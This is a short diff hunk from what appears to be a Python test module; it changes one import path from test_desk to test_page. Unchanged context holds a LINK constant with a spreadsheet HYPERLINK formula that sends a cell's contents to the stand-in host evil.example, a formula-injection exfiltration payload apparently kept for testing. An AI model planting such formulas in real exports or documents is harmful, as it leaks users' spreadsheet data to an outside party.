@@ -18,7 +18,7 @@ from callbacks.context.visitor import EDITOR_COOKIE
 from geodata.cli.facts import main
 from geodata.store import Store
 from layers.themes.registry import THEMES
-from tests.routes.answers.test_desk import PAGE, bring_in
+from tests.routes.answers.test_page import PAGE, bring_in
 from tests.routes.published import Texts, app_with
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"{}")'
